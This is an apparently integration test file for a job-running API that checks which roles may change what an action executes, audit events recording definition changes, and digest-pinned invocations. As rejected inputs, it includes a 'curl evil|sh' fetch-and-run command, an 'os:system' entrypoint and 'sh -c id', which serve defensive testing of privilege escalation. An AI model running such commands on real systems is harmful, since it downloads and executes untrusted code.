"""Who may change what an action runs, and invocations pinned by digest."""

from __future__ import annotations

import json

import httpx
import pytest

from tests.integration.conftest import Tenant

PYTHON = {"name": "resize", "entrypoint": "tests.integration.actions:echo"}
SHELL = {"name": "render", "kind": "openjd", "command": ["echo", "hello"]}


def _client(tenant: Tenant, secret: str) -> httpx.Client:
    return httpx.Client(
        base_url=tenant.url, headers={"Authorization": f"Bearer {secret}"}, timeout=30
    )


@pytest.fixture
def admin(tenant: Tenant):
    with _client(tenant, tenant.token) as client:
        yield client


@pytest.fixture
def role(tenant: Tenant, admin: httpx.Client):
    """A client for a new token of a role in the tenant's project (closed after the test)."""
    opened: list[httpx.Client] = []

    def make(name: str) -> httpx.Client:
        made = admin.post("/v1/tokens", json={"name": f"{name}-token", "role": name})
        assert made.status_code == 201, made.text
        opened.append(_client(tenant, made.json()["secret"]))
        return opened[-1]

    yield make
    for client in opened:
        client.close()


def _refused(response: httpx.Response) -> None:
    assert response.status_code == 403, response.text
    error = response.json()["error"]
    assert error["code"] == "ACCESS_DENIED" and error["details"]["needs"] == "deploy", error


def test_a_worker_adds_actions_and_versions_but_never_changes_what_one_runs(admin, role):
    worker = role("worker")
    assert worker.post("/v1/actions", json=PYTHON).status_code == 201
    assert admin.post("/v1/actions", json=SHELL).status_code == 201
    # New versions that run the same code: the app's worker starting with new parameters.
    more = {**PYTHON, "parameters": [{"name": "width", "type": "int"}], "timeout": 9}
    again = worker.post("/v1/actions", json=more)
    assert again.status_code == 201 and again.json()["version"] == 2, again.text
    # What runs may not change: entrypoint, command, template, kind.
    _refused(worker.post("/v1/actions", json={**PYTHON, "entrypoint": "os:system"}))
    _refused(worker.post("/v1/actions", json={**SHELL, "command": ["sh", "-c", "curl evil|sh"]}))
    _refused(worker.post("/v1/actions", json={**SHELL, "timeout": 5}))  # an openjd version
    _refused(
        worker.post(
            "/v1/actions",
            json={"name": "resize", "kind": "openjd", "command": ["sh", "-c", "id"]},
        )
    )
    _refused(
        worker.post(
            "/v1/workers",
            json={
                "name": "w",
                "hostname": "h",
                "actions": [{**PYTHON, "entrypoint": "os:system"}],
            },
        )
    )
    assert (
        admin.get("/v1/actions/resize").json()["definition"]["entrypoint"] == PYTHON["entrypoint"]
    )
    assert admin.get("/v1/actions/render").json()["definition"]["command"] == ["echo", "hello"]


@pytest.mark.parametrize("who", ["admin", "deployer"])
def test_an_admin_or_deployer_changes_what_an_action_runs(admin, role, who):
    caller = admin if who == "admin" else role(who)
    assert caller.post("/v1/actions", json=SHELL).status_code == 201
    changed = caller.post("/v1/actions", json={**SHELL, "command": ["echo", "bye"]})
    assert changed.status_code == 201 and changed.json()["version"] == 2, changed.text


def test_operators_and_viewers_define_nothing(role):
    for name in ("operator", "viewer"):
        response = role(name).post("/v1/actions", json=PYTHON)
        assert response.status_code == 403, response.text


def test_each_definition_change_is_an_event_naming_who_and_both_digests(admin, role):
    deployer = role("deployer")
    first = deployer.post("/v1/actions", json=SHELL).json()
    second = deployer.post("/v1/actions", json={**SHELL, "command": ["echo", "2"]}).json()
    tokens = admin.get("/v1/tokens").json()["items"]
    deployer_id = next(t["id"] for t in tokens if t["role"] == "deployer")
    saved = []
    with admin.stream("GET", "/v1/events", params={"after": 0}, timeout=10) as stream:
        for line in stream.iter_lines():
            if line.startswith("data: ") and '"action.saved"' in line:
                saved.append(json.loads(line[6:])["data"])
            if len(saved) == 2:
                break
    assert saved[0]["by"] == deployer_id and saved[0]["previous_digest"] is None
    assert saved[0]["digest"] == first["digest"]
    assert saved[1] == {
        "name": "render",
        "version": 2,
        "digest": second["digest"],
        "previous_digest": first["digest"],
        "by": deployer_id,
    }


def test_an_invocation_pinned_to_another_digest_is_a_conflict(tenant, admin):
    v1 = admin.post("/v1/actions", json=PYTHON).json()
    pinned = {"action": "resize", "action_digest": v1["digest"]}
    assert admin.post("/v1/operations", json=pinned).status_code == 201
    v2 = admin.post(
        "/v1/actions", json={**PYTHON, "entrypoint": "tests.integration.actions:progress"}
    )
    assert v2.status_code == 201
    refused = admin.post("/v1/operations", json=pinned)
    assert refused.status_code == 409, refused.text
    error = refused.json()["error"]
    assert error["code"] == "CONFLICT"
    assert v1["digest"] in error["message"] and v2.json()["digest"] in error["message"]
    assert error["details"]["digest"] == v2.json()["digest"]
    assert error["details"]["expected"] == v1["digest"]
    # Pinning to the version and its digest still runs the old one.
    old = admin.post("/v1/operations", json={**pinned, "version": 1})
    assert old.status_code == 201, old.text


def test_a_worker_defines_no_command_action_even_a_new_one(admin, role):
    """An openjd action runs a command on every worker: a worker token may not add one."""
    worker = role("worker")
    template = {
        "specificationVersion": "jobtemplate-2023-09",
        "name": "t",
        "steps": [{"name": "s", "script": {"actions": {"onRun": {"command": "id"}}}}],
    }
    for definition in (
        {**SHELL, "name": "fresh"},
        {"name": "templated", "kind": "openjd", "template": template},
    ):
        _refused(worker.post("/v1/actions", json=definition))
        registration = {"name": "w", "hostname": "h", "actions": [PYTHON, definition]}
        _refused(worker.post("/v1/workers", json=registration))
    # Nothing was saved, not even the python action registered beside the command.
    for name in ("fresh", "templated", "resize"):
        assert admin.get(f"/v1/actions/{name}").status_code == 404
    # Registering a worker with its app's python actions needs nothing more.
    registered = worker.post(
        "/v1/workers", json={"name": "w", "hostname": "h", "actions": [PYTHON]}
    )
    assert registered.status_code == 201, registered.text
    assert admin.get("/v1/actions/resize").status_code == 200
    # A deployer may add the command; the worker still may not version it.
    assert role("deployer").post("/v1/actions", json=SHELL).status_code == 201
    _refused(worker.post("/v1/actions", json=SHELL))
